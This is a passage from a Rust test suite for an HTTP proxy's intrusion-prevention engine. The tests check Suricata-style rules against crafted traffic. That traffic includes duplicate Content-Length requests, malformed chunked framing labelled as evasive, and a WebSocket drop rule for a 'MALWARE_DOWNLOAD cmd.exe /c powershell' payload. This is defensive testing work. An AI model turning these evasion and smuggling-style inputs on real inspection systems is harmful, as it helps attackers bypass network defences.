         alert http any any -> any any (msg:\"known UA\"; http.uri; content:\"/known\"; http.user_agent; dataset:isset,ua-seen; sid:9400102; rev:1;)\n\
         alert http any any -> any any (msg:\"listed path\"; http.uri; dataset:isset,bad-paths,type string,load bad-paths.lst; sid:9400103; rev:1;)\n",
    )
    .unwrap();
    let data = dir.path().join("data");
    let mut gw = Gateway::start(
        "ips-datasets",
        "",
        &format!(
            "[ips]\nrules = [{:?}]\nmode = \"detect\"\ndata_dir = {:?}\n",
            rules.display().to_string(),
            data.display().to_string()
        ),
    );
    let base = format!("http://127.0.0.1:{}", origin.port);
    let get = |path: &str, ua: &str| {
        let (url, proxy, ua) = (format!("{base}{path}"), gw.proxy_url(), ua.to_string());
        async move {
            let r = curl(&["-x", &proxy, "-o", "/dev/null", "-A", &ua, &url]).await;
            assert_eq!(r.code, 0, "{url}: {}", r.stderr);
        }
    };
    let sids = |gw: &Gateway, path: &str| -> BTreeSet<u32> {
        sids_for(gw, &format!("{base}{path}")).into_keys().collect()
    };
    get("/first", "UA-1").await;
    get("/known", "UA-1").await;
    get("/blocked-1", "UA-1").await;
    get("/blocked-2", "UA-1").await;
    wait_sid(&gw, 9400103);
    assert_eq!(sids(&gw, "/first"), BTreeSet::from([9400101]));
    assert_eq!(sids(&gw, "/known"), BTreeSet::from([9400102]));
    assert_eq!(sids(&gw, "/blocked-1"), BTreeSet::from([9400103]));
    assert!(sids(&gw, "/blocked-2").is_empty());

    // The list grows; SIGHUP reads it again. The learned UA is still known afterwards.
    std::fs::write(
        &list,
        format!("{}\n{}\n", b64("/blocked-1"), b64("/blocked-2")),
    )
    .unwrap();
    gw.reload();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while sids(&gw, "/blocked-2").is_empty() {
        assert!(
            std::time::Instant::now() < deadline,
            "the reloaded list never matched: {}",
            std::fs::read_to_string(&gw.stderr).unwrap_or_default()
        );
        get("/blocked-2", "UA-1").await;
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    get("/known-after", "UA-1").await;
    get("/first-2", "UA-2").await;
    gw.wait_line("events.jsonl", |v| {
        v["alert"]["signature_id"] == 9400101
            && v["http"]["url"]
                .as_str()
                .is_some_and(|u| u.ends_with("/first-2"))
    });
    gw.wait_line("events.jsonl", |v| {
        v["alert"]["signature_id"] == 9400102
            && v["http"]["url"]
                .as_str()
                .is_some_and(|u| u.ends_with("/known-after"))
    });
    assert!(!data.join("ua-seen.csv").exists(), "saved only at the end");
    gw.stop();
    let events = gw.events();
    let new_ua_total = events
        .iter()
        .filter(|v| v["alert"]["signature_id"] == 9400101)
        .count();
    assert_eq!(new_ua_total, 2, "UA-1 once, UA-2 once");
    let saved = std::fs::read_to_string(data.join("ua-seen.csv")).unwrap();
    assert_eq!(saved, format!("{}\n{}\n", b64("UA-1"), b64("UA-2")));
}

/// HTTP anomaly events through the proxy, for anomalies the gateway lets pass: an
/// Authorization scheme libhtp does not know, a repeated request header, a response with more
/// content-encoding layers than libhtp decodes; the event names the anomaly.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn app_layer_events_fire_through_the_proxy() {
    let mut files = Files::new();
    files.insert(
        "/layers".into(),
        (
            vec![(
                "content-encoding".into(),
                "identity, identity, identity".into(),
            )],
            b"plain".to_vec(),
        ),
    );
    let origin = Origin::start_with_files(None, files).await;
    let (_dir, gw) = detect_gateway(
        "ips-events",
        "alert http any any -> any any (msg:\"auth unknown\"; flow:to_server; app-layer-event:http.request_auth_unrecognized; sid:9400201; rev:1;)\n\
         alert http any any -> any any (msg:\"header twice\"; app-layer-event:http.request_header_repetition; sid:9400202; rev:1;)\n\
         alert http any any -> any any (msg:\"layers\"; flow:to_server; app-layer-event:http.too_many_encoding_layers; sid:9400203; rev:1;)\n",
        "",
    );
    let base = format!("http://127.0.0.1:{}", origin.port);
    let proxy = gw.proxy_url();
    let cases: [(&str, &[&str], u32); 5] = [
        ("/clean", &[], 0),
        ("/auth", &["-H", "Authorization: Turbo abc"], 9400201),
        ("/auth-basic", &["-u", "a:b"], 0),
        ("/twice", &["-H", "X-A: 1", "-H", "X-A: 2"], 9400202),
        ("/layers", &[], 9400203),
    ];
    for (path, extra, _) in &cases {
        let url = format!("{base}{path}");
        let mut args: Vec<&str> = vec!["-x", &proxy, "-o", "/dev/null"];
        args.extend(extra.iter());
        args.push(&url);
        assert_eq!(curl(&args).await.code, 0, "{path}");
    }
    let last = wait_sid(&gw, 9400203);
    assert_eq!(last["evidence"]["location"], "app-layer-event", "{last}");
    assert!(
        last["evidence"]["excerpt"]
            .as_str()
            .unwrap()
            .contains("too_many_encoding_layers"),
        "{last}"
    );
    for (path, _, sid) in &cases {
        let got: BTreeSet<u32> = sids_for(&gw, &format!("{base}{path}"))
            .into_keys()
            .filter(|s| (9400201..=9400203).contains(s))
            .collect();
        let want: BTreeSet<u32> = (*sid != 0).then_some(*sid).into_iter().collect();
        assert_eq!(got, want, "{path}");
    }
}

/// Requests the gateway refuses as malformed (hyper's 400) still go through the stages: the
/// IPS raises the anomaly events that explain the refusal, and rules testing them fire.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn refused_requests_raise_their_anomaly_events() {
    let origin = Origin::start(None).await;
    let (_dir, gw) = detect_gateway(
        "ips-refused",
        "alert http any any -> any any (msg:\"two lengths\"; app-layer-event:http.duplicate_content_length_field_in_request; sid:9400211; rev:1;)\n\
         alert http any any -> any any (msg:\"no protocol\"; app-layer-event:http.request_line_missing_protocol; sid:9400212; rev:1;)\n\
         alert http any any -> any any (msg:\"bad name\"; app-layer-event:http.request_header_invalid; http.uri; content:\"/bad-name\"; sid:9400213; rev:1;)\n",
        "",
    );
    let o = format!("127.0.0.1:{}", origin.port);
    let cases = [
        (
            format!("POST http://{o}/two-cl HTTP/1.1\r\nHost: {o}\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd"),
            format!("http://{o}/two-cl"),
            9400211,
        ),
        (
            format!("GET http://{o}/not09\nFakeHeader\nHost: {o}\n\n"),
            format!("http://{o}/not09"),
            9400212,
        ),
        (
            format!("GET http://{o}/bad-name HTTP/1.1\r\nHost: {o}\r\nX Foo: 1\r\n\r\n"),
            format!("http://{o}/bad-name"),
            9400213,
        ),
    ];
    for (raw, _, _) in &cases {
        let answer = send_raw(gw.proxy, raw).await;
        assert!(answer.starts_with("HTTP/1.1 400"), "{raw:?}: {answer:?}");
    }
    for (raw, url, sid) in &cases {
        let e = wait_sid(&gw, *sid);
        assert_eq!(e["http"]["url"], url.as_str(), "{raw:?}: {e}");
        assert_eq!(e["http"]["status"], 400, "{e}");
        // The rule with a content names its match; the others the anomalies.
        let want = if *sid == 9400213 {
            "http.uri"
        } else {
            "app-layer-event"
        };
        assert_eq!(e["evidence"]["location"], want, "{e}");
    }
    // The connection-level event stands as before.
    gw.wait_line("events.jsonl", |v| v["rule"]["id"] == "malformed-request");
}

/// A chunked request body's framing as the client sent it: a chunk extension (which hyper
/// drops) raises `request_chunk_extension` once the body is in, bare-LF line endings
/// included (suricata-verify http-event-chunk); a chunk length that does not read (which hyper
/// refuses) raises `invalid_request_chunk_len` on what came before it. A clean chunked body
/// raises neither.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn chunked_request_framing_raises_its_anomaly_events() {
    let origin = Origin::start(None).await;
    let (_dir, gw) = detect_gateway(
        "ips-chunks",
        "alert http any any -> any any (msg:\"ext\"; flow:established,to_server; app-layer-event:http.request_chunk_extension; sid:9400231; rev:1;)\n\
         alert http any any -> any any (msg:\"bad len\"; flow:to_server; app-layer-event:http.invalid_request_chunk_len; sid:9400232; rev:1;)\n",
        "",
    );
    let o = format!("127.0.0.1:{}", origin.port);
    let te = "Transfer-Encoding: chunked";
    let cases = [
        (
            format!("POST http://{o}/ext HTTP/1.1\r\nHost: {o}\r\n{te}\r\nConnection: close\r\n\r\n3;name=v\r\nabc\r\n0\r\n\r\n"),
            "/ext",
            Some(9400231),
        ),
        (
            format!("POST http://{o}/ext-lf HTTP/1.1\nHost: {o}\n{te}\nConnection: close\n\n4 \r\ntiti\r\n0 ; a=b; c=\"d\"\r\n\r\n"),
            "/ext-lf",
            Some(9400231),
        ),
        (
            format!("POST http://{o}/clean HTTP/1.1\r\nHost: {o}\r\n{te}\r\nConnection: close\r\n\r\n3\r\nabc\r\n0\r\n\r\n"),
            "/clean",
            None,
        ),
        (
            format!("POST http://{o}/bad-len HTTP/1.1\r\nHost: {o}\r\n{te}\r\nConnection: close\r\n\r\n3\r\nabc\r\nzz\r\n"),
            "/bad-len",
            Some(9400232),
        ),
    ];
    for (raw, path, _) in &cases {
        let answer = send_raw(gw.proxy, raw).await;
        // The origin's own answer (it has no such file): the request went through.
        if *path != "/bad-len" {
            assert!(answer.starts_with("HTTP/1.1 404"), "{path}: {answer:?}");
        }
    }
    let url = |path: &str| format!("http://{o}{path}");
    for (_, path, sid) in &cases {
        if let Some(sid) = sid {
            let e = gw.wait_line("events.jsonl", |v| {
                v["alert"]["signature_id"] == *sid && v["http"]["url"] == url(path)
            });
            assert_eq!(e["evidence"]["location"], "app-layer-event", "{e}");
        }
    }
    for (_, path, sid) in &cases {
        let got: BTreeSet<u32> = sids_for(&gw, &url(path))
            .into_keys()
            .filter(|s| (9400231..=9400232).contains(s))
            .collect();
        let want: BTreeSet<u32> = sid.iter().copied().collect();
        assert_eq!(got, want, "{path}");
    }
}

/// A request head the client never finishes (it closes, or goes quiet) is inspected on its
/// complete lines once the request line is in, as Suricata inspects `http.uri` as soon as
/// libhtp has the request line; a `tcp` rule with `uricontent` and relative keywords included.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unfinished_request_heads_are_inspected() {
    use tokio::io::AsyncWriteExt;
    let (_dir, gw) = detect_gateway(
        "ips-unfinished",
        "alert tcp any any -> any any (msg:\"relative\"; uricontent:\"fix_this\"; isdataat:!10,relative; sid:9400221; rev:1;)\n\
         alert http any any -> any any (msg:\"agent\"; http.user_agent; content:\"Mozilla/1.0\"; sid:9400222; rev:1;)\n\
         alert http any any -> any any (msg:\"cut line\"; http.header; content:\"X-Cut\"; sid:9400223; rev:1;)\n",
        "",
    );
    let mut s = tokio::net::TcpStream::connect(gw.proxy).await.unwrap();
    s.write_all(
        b"POST /we_need_to_fix_this_and_yes_fix_this_now HTTP/1.0\r\nUser-Agent: Mozilla/1.0\r\nX-Cut: no",
    )
    .await
    .unwrap();
    s.shutdown().await.unwrap();
    let e = wait_sid(&gw, 9400221);
    assert_eq!(e["evidence"]["location"], "http.uri", "{e}");
    wait_sid(&gw, 9400222);
    let flow = gw.wait_line("flows.jsonl", |v| {
        v["path"] == "/we_need_to_fix_this_and_yes_fix_this_now"
    });
    assert!(
        flow["error"]
            .as_str()
            .is_some_and(|e| e.contains("stopped before its request head was complete")),
        "{flow}"
    );
    assert!(flow.get("status").is_none(), "no answer was sent: {flow}");
    // The unfinished last line is not a header: its rule stays silent.
    let events = std::fs::read_to_string(gw.dir.path().join("events.jsonl")).unwrap();
    assert!(!events.contains("9400223"), "{events}");
    // A head without a complete request line is not judged.
    let mut s = tokio::net::TcpStream::connect(gw.proxy).await.unwrap();
    s.write_all(b"POST /fix_this_x HTT").await.unwrap();
    s.shutdown().await.unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let flows = std::fs::read_to_string(gw.dir.path().join("flows.jsonl")).unwrap();
    assert!(!flows.contains("/fix_this_x"), "{flows}");
}

/// `filestore` (Suricata's file-store layout, `<dir>/<aa>/<sha256>`): a matching rule keeps the
/// file of its direction, names it in the event (`file.stored`, `file.sha256`), keeps one copy
/// per content, works for `noalert` rules, and stops at the configured budget (counted).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn filestore_keeps_files_within_its_budget() {
    use sha2::Digest as _;
    let mut files = Files::new();
    let mut exe = b"MZ".to_vec();
    exe.extend(std::iter::repeat_n(b'x', 100));
    files.insert("/dl/tool.exe".into(), (vec![], exe.clone()));
    let origin = Origin::start_with_files(None, files).await;
    let dir = TempDir::new("ips-filestore");
    let rules = dir.path().join("store.rules");
    std::fs::write(
        &rules,
        "alert http any any -> any any (msg:\"keep exe\"; flow:to_client; fileext:\"exe\"; filestore; sid:9400301; rev:1;)\n\
         alert http any any -> any any (msg:\"keep upload\"; http.uri; content:\"/up\"; filestore:request,file; noalert; sid:9400302; rev:1;)\n",
    )
    .unwrap();
    let store = dir.path().join("kept");
    let gw = Gateway::start(
        "ips-filestore",
        "",
        &format!(
            "[ips]\nrules = [{:?}]\nmode = \"detect\"\nfilestore_dir = {:?}\nfilestore_max_bytes = 150\n",
            rules.display().to_string(),
            store.display().to_string()
        ),
    );
    let base = format!("http://127.0.0.1:{}", origin.port);
    let proxy = gw.proxy_url();
    for _ in 0..2 {
        let url = format!("{base}/dl/tool.exe");
        assert_eq!(curl(&["-x", &proxy, "-o", "/dev/null", &url]).await.code, 0);
    }
    let e = wait_sid(&gw, 9400301);
    let sha = hex::encode(sha2::Sha256::digest(&exe));
    let path = store.join(&sha[..2]).join(&sha);
    assert_eq!(e["file"]["sha256"], sha.as_str(), "{e}");
    assert_eq!(
        e["file"]["stored"],
        path.display().to_string().as_str(),
        "{e}"
    );
    assert_eq!(e["file"]["name"], "/dl/tool.exe", "{e}");
    assert_eq!(std::fs::read(&path).unwrap(), exe);
    // An upload kept by a noalert rule would pass the budget (102 + 100 > 150): refused.
    let body = dir.path().join("body");
    std::fs::write(&body, vec![b'u'; 100]).unwrap();
    let url = format!("{base}/up");
    let data = format!("@{}", body.display());
    let r = curl(&[
        "-x",
        &proxy,
        "-o",
        "/dev/null",
        "-H",
        "Content-Type: application/octet-stream",
        "--data-binary",
        &data,
        &url,
    ])
    .await;
    assert_eq!(r.code, 0);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let m = gw.metrics_text().await;
        let (stored, refused) = (
            metric(&m, "sekisho_ips_filestore_stored_total"),
            metric(&m, "sekisho_ips_filestore_refused_total"),
        );
        if refused >= 1.0 {
            assert_eq!(stored, 2.0, "the exe twice, one copy on disk");
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no refusal counted: {m}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let kept: Vec<_> = walk(&store);
    assert_eq!(kept, vec![path], "one file kept");
    assert!(
        !gw.events()
            .iter()
            .any(|v| v["alert"]["signature_id"] == 9400302),
        "noalert"
    );
}

/// The regular files under `dir`, two levels deep, sorted.
fn walk(dir: &std::path::Path) -> Vec<PathBuf> {
    let mut out: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .flat_map(|d| {
            std::fs::read_dir(d.path())
                .unwrap()
                .flatten()
                .map(|e| e.path())
        })
        .collect();
    out.sort();
    out
}

/// A response body cut short by the origin's EOF is still inspected up to where it stopped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cut_short_bodies_are_still_inspected() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        for _ in 0..4 {
            let Ok((mut s, _)) = listener.accept().await else {
                return;
            };
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = s.read(&mut buf).await;
                let head = "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 1000\r\n\r\n";
                let _ = s.write_all(head.as_bytes()).await;
                let _ = s
                    .write_all(b"first part: cut-marker and then nothing")
                    .await;
                let _ = s.flush().await;
                tokio::time::sleep(std::time::Duration::from_millis(100)).await;
                // Dropped: EOF after 39 of the 1000 bytes announced.
            });
        }
    });
    let (_dir, gw) = detect_gateway(
        "ips-cut",
        "alert http any any -> any any (msg:\"cut body\"; flow:to_client; file.data; content:\"cut-marker\"; sid:9400401; rev:1;)\n",
        "",
    );
    let url = format!("http://127.0.0.1:{port}/partial");
    let r = curl(&["-x", &gw.proxy_url(), "-o", "/dev/null", &url]).await;
    assert_ne!(r.code, 0, "the client sees the cut too");
    let e = wait_sid(&gw, 9400401);
    assert_eq!(e["http"]["url"], url.as_str(), "{e}");
}

/// A chunked response's framing as the upstream sent it: a chunk extension (which hyper
/// drops) raises `response_chunk_extension`, a chunk length that does not read (hyper refuses
/// the body) `invalid_response_chunk_len`, as Suricata's default http-events.rules expect; a
/// clean chunked response neither.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn chunked_response_framing_raises_its_anomaly_events() {
    let port = raw_origin(6, |req| {
        let body: &[u8] = if req.contains("/resp-ext") {
            b"5;name=value\r\nhello\r\n0\r\n\r\n"
        } else if req.contains("/resp-bad") {
            b"5\r\nhello\r\nzz\r\n"
        } else {
            b"5\r\nhello\r\n0\r\n\r\n"
        };
        let head = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n";
        [head.as_bytes(), body].concat()
    })
    .await;
    let (_dir, gw) = detect_gateway(
        "ips-resp-chunks",
        "alert http any any -> any any (msg:\"ext\"; flow:established,to_client; app-layer-event:http.response_chunk_extension; sid:9400241; rev:1;)\n\
         alert http any any -> any any (msg:\"bad len\"; flow:established,to_client; app-layer-event:http.invalid_response_chunk_len; sid:9400242; rev:1;)\n",
        "",
    );
    let url = |path: &str| format!("http://127.0.0.1:{port}{path}");
    let cases = [
        ("/resp-ext", Some(9400241)),
        ("/resp-bad", Some(9400242)),
        ("/resp-clean", None),
    ];
    for (path, _) in &cases {
        let r = curl(&["-x", &gw.proxy_url(), "-s", "-o", "/dev/null", &url(path)]).await;
        assert_eq!(
            r.code == 0,
            *path != "/resp-bad",
            "{path}: curl exit {}",
            r.code
        );
    }
    for (path, sid) in &cases {
        if let Some(sid) = sid {
            let e = gw.wait_line("events.jsonl", |v| {
                v["alert"]["signature_id"] == *sid && v["http"]["url"] == url(path)
            });
            assert_eq!(e["evidence"]["location"], "app-layer-event", "{e}");
        }
    }
    for (path, sid) in &cases {
        let got: BTreeSet<u32> = sids_for(&gw, &url(path))
            .into_keys()
            .filter(|s| (9400241..=9400242).contains(s))
            .collect();
        let want: BTreeSet<u32> = sid.iter().copied().collect();
        assert_eq!(got, want, "{path}");
    }
}

/// Responses hyper refuses (junk after chunk sizes, bare-CR line ends) are read from the
/// recorded bytes as Suricata's libhtp reads them: the client gets no body, the IPS alerts on
/// what a lenient browser would have taken. A well-formed response's `.raw` header buffer
/// keeps the upstream's spacing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn refused_responses_are_read_leniently_and_inspected() {
    let port = raw_origin(8, |req| {
        let answer: &[u8] = if req.contains("/junk-chunks") {
            b"HTTP/1.1 200 ok\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n\
              8,\r\nevasive-\r\n6;x=\"y\r\nmarker\r\n0\r\n\r\n"
        } else if req.contains("/bare-cr") {
            b"HTTP/1.1 200 ok\rContent-Type: text/plain\rContent-Length: 13\r\n\r\nbarecr-marker"
        } else {
            b"HTTP/1.1 200 OK\r\nX-Spaced:   wide\r\nContent-Length: 2\r\n\r\nok"
        };
        answer.to_vec()
    })
    .await;
    let (_dir, gw) = detect_gateway(
        "ips-lenient",
        "alert http any any -> any any (msg:\"chunks\"; flow:to_client; file.data; content:\"evasive-marker\"; sid:9400601; rev:1;)\n\
         alert http any any -> any any (msg:\"bare cr\"; file.data; content:\"barecr-marker\"; sid:9400602; rev:1;)\n\
         alert http any any -> any any (msg:\"raw spacing\"; flow:to_client; http.header.raw; content:\"X-Spaced:   wide\"; sid:9400603; rev:1;)\n\
         alert http any any -> any any (msg:\"never\"; flow:to_client; file.data; content:\"8,\"; sid:9400604; rev:1;)\n",
        "",
    );
    for (path, sid) in [("junk-chunks", 9400601), ("bare-cr", 9400602)] {
        let url = format!("http://127.0.0.1:{port}/{path}");
        let r = curl(&[
            "-x",
            &gw.proxy_url(),
            "-s",
            "-w",
            "%{http_code}",
            "-o",
            "/dev/null",
            &url,
        ])
        .await;
        assert!(
            r.code != 0 || r.stdout.trim() == "502",
            "{path}: the client gets no body: {} {}",
            r.stdout,
            r.stderr
        );
        let e = wait_sid(&gw, sid);
        assert_eq!(e["http"]["url"], url.as_str(), "{e}");
    }
    let url = format!("http://127.0.0.1:{port}/fine");
    let r = curl(&["-x", &gw.proxy_url(), "-s", &url]).await;
    assert_eq!(r.stdout, "ok", "{}", r.stderr);
    let e = wait_sid(&gw, 9400603);
    assert_eq!(e["http"]["url"], url.as_str(), "{e}");
    let junk = format!("http://127.0.0.1:{port}/junk-chunks");
    assert!(
        !sids_for(&gw, &junk).contains_key(&9400604),
        "chunk sizes are framing, not body"
    );
}

/// Cleartext inside a CONNECT tunnel (`[policy] connect_non_tls`): HTTP/1 is served and
/// inspected like plain proxied traffic to the CONNECT target; bytes that are neither TLS nor
/// HTTP, and everything with `refuse`, close the tunnel with an event.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cleartext_in_connect_tunnels_is_inspected_or_refused() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let origin = Origin::start(None).await;
    let rule = "alert http any any -> any any (msg:\"plain in tunnel\"; http.uri; content:\"tunnel-plain\"; sid:9400501; rev:1;)\n";
    let (_dir, gw) = detect_gateway("ips-tunnel-plain", rule, "");
    let url = format!("http://127.0.0.1:{}/hello?tunnel-plain", origin.port);
    let r = curl(&["-p", "-x", &gw.proxy_url(), "-w", "\n%{http_code}", &url]).await;
    assert!(r.stdout.ends_with("\n200"), "{} {}", r.stdout, r.stderr);
    let e = wait_sid(&gw, 9400501);
    assert_eq!(e["http"]["url"], url.as_str(), "{e}");
    // Neither TLS nor HTTP: refused with an event.
    let mut s = tokio::net::TcpStream::connect(gw.proxy).await.unwrap();
    let target = format!("127.0.0.1:{}", origin.port);
    s.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())
        .await
        .unwrap();
    let mut buf = [0u8; 1024];
    let n = s.read(&mut buf).await.unwrap();
    assert!(
        buf[..n].starts_with(b"HTTP/1.1 200"),
        "{:?}",
        String::from_utf8_lossy(&buf[..n])
    );
    s.write_all(b"\x00\x01\x02 not a protocol").await.unwrap();
    let closed = tokio::time::timeout(std::time::Duration::from_secs(10), s.read(&mut buf)).await;
    assert!(
        matches!(closed, Ok(Ok(0)) | Ok(Err(_))),
        "closed: {closed:?}"
    );
    let e = gw.wait_line("events.jsonl", |v| v["rule"]["id"] == "connect-non-tls");
    assert!(
        e["rule"]["name"]
            .as_str()
            .unwrap()
            .contains("neither TLS nor HTTP"),
        "{e}"
    );

    // `refuse`: even HTTP is closed.
    let (_dir2, strict) = detect_gateway(
        "ips-tunnel-refuse",
        rule,
        "\n[policy]\nconnect_non_tls = \"refuse\"\n",
    );
    let r = curl(&["-p", "-x", &strict.proxy_url(), "-o", "/dev/null", &url]).await;
    assert_ne!(r.code, 0, "refused");
    strict.wait_line("events.jsonl", |v| v["rule"]["id"] == "connect-non-tls");
    assert!(!strict
        .events()
        .iter()
        .any(|v| v["alert"]["signature_id"] == 9400501));
}

/// A WebSocket frame as a client (`mask`) or a server sends it; payloads under 64 KiB.
fn ws_frame(b0: u8, mask: Option<[u8; 4]>, payload: &[u8]) -> Vec<u8> {
    let m = if mask.is_some() { 0x80 } else { 0 };
    let mut v = vec![b0];
    if payload.len() < 126 {
        v.push(m | payload.len() as u8);
    } else {
        v.push(m | 126);
        v.extend_from_slice(&(payload.len() as u16).to_be_bytes());
    }
    match mask {
        Some(k) => {
            v.extend_from_slice(&k);
            v.extend(payload.iter().zip(k.iter().cycle()).map(|(b, k)| b ^ k));
        }
        None => v.extend_from_slice(payload),
    }
    v
}

/// Reads one frame (payloads under 64 KiB), unmasked: (first byte, payload); `None` at EOF.
async fn read_ws_frame<R: tokio::io::AsyncRead + Unpin>(r: &mut R) -> Option<(u8, Vec<u8>)> {
    use tokio::io::AsyncReadExt;
    let mut h = [0u8; 2];
    r.read_exact(&mut h).await.ok()?;
    let mut len = usize::from(h[1] & 0x7f);
    if len == 126 {
        let mut l = [0u8; 2];
        r.read_exact(&mut l).await.ok()?;
        len = usize::from(u16::from_be_bytes(l));
    }
    let mut key = [0u8; 4];
    if h[1] & 0x80 != 0 {
        r.read_exact(&mut key).await.ok()?;
    }
    let mut p = vec![0u8; len];
    r.read_exact(&mut p).await.ok()?;
    p.iter_mut()
        .zip(key.iter().cycle())
        .for_each(|(b, k)| *b ^= k);
    Some((h[0], p))
}

/// Reads an HTTP head (to its blank line) byte by byte.
async fn read_head<R: tokio::io::AsyncRead + Unpin>(r: &mut R) -> String {
    use tokio::io::AsyncReadExt;
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") && head.len() < 16384 {
        let mut b = [0u8; 1];
        if r.read_exact(&mut b).await.is_err() {
            break;
        }
        head.push(b[0]);
    }
    String::from_utf8_lossy(&head).into_owned()
}

/// A loopback WebSocket origin: answers the upgrade, greets with a text frame, then echoes
/// each client frame's payload back in a text frame; every payload it received is kept (a
/// close frame's as `close <status>`).
async fn ws_origin() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<Vec<u8>>>>) {
    use tokio::io::AsyncWriteExt;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let kept = std::sync::Arc::clone(&got);
    tokio::spawn(async move {
        let Ok((mut s, _)) = listener.accept().await else {
            return;
        };
        let head = read_head(&mut s).await;
        assert!(
            head.to_ascii_lowercase().contains("upgrade: websocket"),
            "{head}"
        );
        let answer = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n";
        s.write_all(answer.as_bytes()).await.unwrap();
        s.write_all(&ws_frame(0x81, None, b"version,hybi-draft-13"))
            .await
            .unwrap();
        for _ in 0..16 {
            let Some((b0, payload)) = read_ws_frame(&mut s).await else {
                return;
            };
            if b0 & 0x0f == 8 {
                let status = payload
                    .get(..2)
                    .map_or(0, |c| u16::from_be_bytes([c[0], c[1]]));
                kept.lock()
                    .unwrap()
                    .push(format!("close {status}").into_bytes());
                return;
            }
            kept.lock().unwrap().push(payload.clone());
            if s.write_all(&ws_frame(0x81, None, &payload)).await.is_err() {
                return;
            }
        }
    });
    (port, got)
}

/// WebSocket connections are relayed frame by frame, each frame judged before it goes on:
/// `websocket.*` rules alert on both sides' frames, a fragmented message is judged whole on
/// its final frame, and a drop rule closes the connection before that frame reaches the
/// origin (both endpoints get a 1008 close frame).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn websocket_frames_are_inspected_and_blocked() {
    use tokio::io::AsyncWriteExt;
    let (port, received) = ws_origin().await;
    let dir = TempDir::new("ips-websocket");
    let rules = dir.path().join("test.rules");
    std::fs::write(
        &rules,
        "alert websocket any any -> any any (msg:\"ws greeting\"; flow:established,to_client; websocket.opcode:text; websocket.payload; content:\"version,\"; startswith; sid:9500003; rev:1;)\n\
         alert websocket any any -> any any (msg:\"ws hello\"; flow:established,to_server; websocket.mask:>0; websocket.payload; content:\"hello-alert\"; sid:9500001; rev:1;)\n\
         drop websocket any any -> any any (msg:\"ws malware\"; flow:established,to_server; websocket.payload; content:\"MALWARE_DOWNLOAD cmd.exe\"; sid:9500002; rev:1;)\n",
    )
    .unwrap();
    let gw = Gateway::start(
        "ips-websocket",
        "",
        &format!("[ips]\nrules = [{:?}]\n", rules.display().to_string()),
    );
    let mut s = tokio::net::TcpStream::connect(gw.proxy).await.unwrap();
    let upgrade = format!(
        "GET http://127.0.0.1:{port}/ws HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    );
    s.write_all(upgrade.as_bytes()).await.unwrap();
    let limit = std::time::Duration::from_secs(10);
    let head = tokio::time::timeout(limit, read_head(&mut s))
        .await
        .unwrap();
    assert!(head.starts_with("HTTP/1.1 101"), "{head}");
    let greeting = tokio::time::timeout(limit, read_ws_frame(&mut s))
        .await
        .unwrap();
    assert_eq!(greeting, Some((0x81, b"version,hybi-draft-13".to_vec())));
    // A frame sent in two writes is relayed once whole.
    let hello = ws_frame(0x81, Some([1, 2, 3, 4]), b"hello-alert from the ward");
    s.write_all(&hello[..5]).await.unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    s.write_all(&hello[5..]).await.unwrap();
    let echo = tokio::time::timeout(limit, read_ws_frame(&mut s))
        .await
        .unwrap();
    assert_eq!(echo, Some((0x81, b"hello-alert from the ward".to_vec())));
    // A fragmented message: the first fragment alone is clean and goes on; the final one
    // completes the message the drop rule names, and never reaches the origin.
    s.write_all(&ws_frame(0x01, Some([9, 9, 9, 9]), b"MALWARE_DOWN"))
        .await
        .unwrap();
    let echo = tokio::time::timeout(limit, read_ws_frame(&mut s))
        .await
        .unwrap();
    assert_eq!(echo, Some((0x81, b"MALWARE_DOWN".to_vec())));
    s.write_all(&ws_frame(
        0x80,
        Some([7, 7, 7, 7]),
        b"LOAD cmd.exe /c powershell",
    ))
    .await
    .unwrap();
    // Both endpoints get a close frame, 1008 (policy violation); then the connection ends.
    let (b0, close) = tokio::time::timeout(limit, read_ws_frame(&mut s))
        .await
        .unwrap()
        .expect("a close frame");
    assert_eq!((b0, &close[..2]), (0x88, &1008u16.to_be_bytes()[..]));
    let after = tokio::time::timeout(limit, read_ws_frame(&mut s))
